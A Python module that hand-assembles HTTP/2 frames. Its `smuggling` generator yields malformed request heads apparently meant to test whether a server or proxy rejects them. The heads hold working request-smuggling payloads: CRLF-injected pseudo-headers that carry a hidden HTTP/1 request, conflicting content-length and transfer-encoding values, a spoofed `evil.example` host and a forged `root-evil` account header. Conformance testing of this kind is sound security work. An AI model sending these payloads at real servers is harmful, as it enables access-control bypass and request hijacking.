"""HTTP/2 by hand (RFC 9113, and RFC 7541 for its heads), for what no client would send."""

from __future__ import annotations

import socket
import ssl
import struct
from collections.abc import Iterable, Iterator
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, GOAWAY, RESET = 0, 1, 4, 7, 3
END_STREAM, END_HEADERS = 0x1, 0x4

Fields = Iterable[tuple[bytes, bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(fields: Fields) -> bytes:
    """A head, every field as it is written: neither from a table nor compressed."""
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


def request(fields: Fields, body: bytes | None = None, stream: int = 1, trailers: Fields = ()) -> bytes:
    """All frames of one request; no body is one without a frame of data."""
    trailing = block(trailers)
    ends = END_STREAM if body is None and not trailing else 0
    sent = frame(HEADERS, END_HEADERS | ends, stream, block(fields))
    if body is not None:
        sent += frame(DATA, 0 if trailing else END_STREAM, stream, body)
    if trailing:
        sent += frame(HEADERS, END_HEADERS | END_STREAM, stream, trailing)
    return sent


def opened(
    address: tuple[str, int], timeout_s: float, context: ssl.SSLContext | None = None
) -> socket.socket:
    """A connection that speaks HTTP/2, by TLS where that is said."""
    made = socket.create_connection(address, timeout=timeout_s)
    if context is not None:
        made = context.wrap_socket(made, server_hostname=address[0])
    made.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return made


def frames_of(connection: socket.socket) -> Iterator[tuple[int, int, bytes]]:
    """Kind, flags and payload of what comes, until the connection ends.

    Raises: TimeoutError: nothing comes in time.
    """
    held = b""
    with suppress(ConnectionError):
        while piece := connection.recv(65536):
            held += piece
            while len(held) >= 9 and len(held) >= 9 + (size := int.from_bytes(held[:3], "big")):
                yield held[3], held[4], held[9 : 9 + size]
                held = held[9 + size :]


def smuggling(host: bytes, hidden: bytes, size: int) -> Iterator[list[tuple[bytes, bytes]]]:
    """Heads that mean something else where they are written as HTTP/1 (RFC 9113, 8.2 and 10.3); the first is a good one.

    Args:
        host: that the request is for.
        hidden: a request as HTTP/1 has it.
        size: bytes of the body that is sent along.
    """
    hidden = hidden.rstrip(b"\r\n")
    usual = {b":method": b"POST", b":scheme": b"http", b":authority": host, b":path": b"/early"}
    yield [*usual.items()]
    for name, value in (
        (b":path", b"/early HTTP/1.1\r\nHost: " + host + b"\r\n\r\n" + hidden),
        (b":path", b"/early\nx"),
        (b":path", b"/early HTTP/1.1"),
        (b":path", b"early"),
        (b":path", b""),
        (b":method", b"GET /smuggled HTTP/1.1\r\nHost: " + host + b"\r\n\r\nPOST"),
        (b":method", b"CONNECT"),
        (b":authority", host + b"\r\n\r\n" + hidden),
        (b":authority", b"evil.example, " + host),
        (b":scheme", b"http://" + host + b"/smuggled?"),
    ):
        yield [*(usual | {name: value}).items()]
    for more in (
        [(b"content-length", b"0")],
        [(b"content-length", b"%d" % (size + 1))],
        [(b"content-length", b"%d" % size), (b"content-length", b"0")],
        [(b"content-length", b"0, %d" % size)],
        [(b"transfer-encoding", b"chunked")],
        [(b"transfer-encoding", b"chunked"), (b"content-length", b"%d" % size)],
        [(b"te", b"chunked")],
        [(b"connection", b"transfer-encoding"), (b"upgrade", b"websocket")],
        [(b":protocol", b"websocket")],
        [(b":path", b"/smuggled")],
        [(b"host", b"evil.example")],
        [(b"X-Tholos-Account", b"root-evil")],
        [(b"x", b"a\r\n\r\n" + hidden)],
        [(b"x", b"a\nTransfer-Encoding: chunked")],
        [(b"x", b"a\rTransfer-Encoding: chunked")],
        [(b"x\r\nTransfer-Encoding: chunked\r\ny", b"a")],
        [(b"transfer-encoding: chunked", b"a")],
        [(b"x y", b"a")],
        [(b"", b"a")],
        [(b"x", b"a\0")],
    ):
        yield [*usual.items(), *more]


def _text(value: bytes) -> bytes:
    """Its length in a prefix of seven bits (RFC 7541, 5.1), and the bytes."""
    length, first = len(value), b""
    if length < 127:
        return bytes([length]) + value
    length -= 127
    while length >= 128:
        first += bytes([length % 128 + 128])
        length //= 128
    return b"\x7f" + first + bytes([length]) + value
